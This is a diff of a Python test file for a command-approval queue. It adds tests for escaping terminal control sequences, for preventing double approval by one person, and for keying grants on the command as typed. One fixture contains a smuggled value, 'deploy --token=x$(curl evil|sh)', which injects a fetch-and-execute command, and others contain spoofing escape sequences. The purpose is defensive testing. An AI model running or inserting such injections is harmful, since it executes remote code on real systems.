@@ -343,9 +343,16 @@ def test_create_async(store: Store) -> None:
 def test_listings_show_requester_text_safely(queue: Approvals) -> None:
     queue.create(ALICE, Exec("ls\x1b[2J\x1b]0;owned\x07 -la"), approve_decision(), reason="\x1b[31mtrust me\nplease")
     shown = queue.list()[0].display()
-    assert shown["action"] == "ls -la" and shown["reason"] == "trust me⏎please"
+    assert shown["action"] == "ls␛[2J␛]0;owned\\x07 -la" and shown["reason"] == "␛[31mtrust me⏎please"
     status, text = approvals_command(["approvals", "list"], "bob", ("leads",), queue)
-    assert status == 0 and "\x1b" not in text and "ls -la" in text
+    assert status == 0 and "\x1b" not in text and "\x07" not in text and "owned" in text
+
+
+def test_one_person_is_one_approver_over_ssh_and_as_operator(queue: Approvals) -> None:
+    request(queue, approvals=2)
+    queue.decide("bob", ("leads",), 1, True)
+    with pytest.raises(ApprovalError, match="already approved"):
+        queue.decide("operator:bob", (), 1, True, operator=True)
 
 
 def test_approvals_command_over_ssh(queue: Approvals) -> None:
@@ -440,3 +447,14 @@ def test_operator_commands(config: Path) -> None:
     ]
     settings = config_mod.load(config)
     assert settings.approvals.timeout == 300.0  # type: ignore[attr-defined]
+
+
+def test_a_grant_is_keyed_on_the_command_as_typed_not_as_shown(queue: Approvals) -> None:
+    masked = Exec("deploy --token=[masked:secret]")
+    typed, other = Exec("deploy --token=abc"), Exec("deploy --token=x$(curl evil|sh)")
+    decision = approve_decision(grant=900.0)
+    first = queue.create(ALICE, masked, decision, key_action=typed)
+    queue.decide("bob", ("leads",), first.id, True)
+    assert queue.granted(ALICE, typed)
+    assert not queue.granted(ALICE, other)  # masks the same way, runs something else: not covered
+    assert not queue.granted(ALICE, masked)
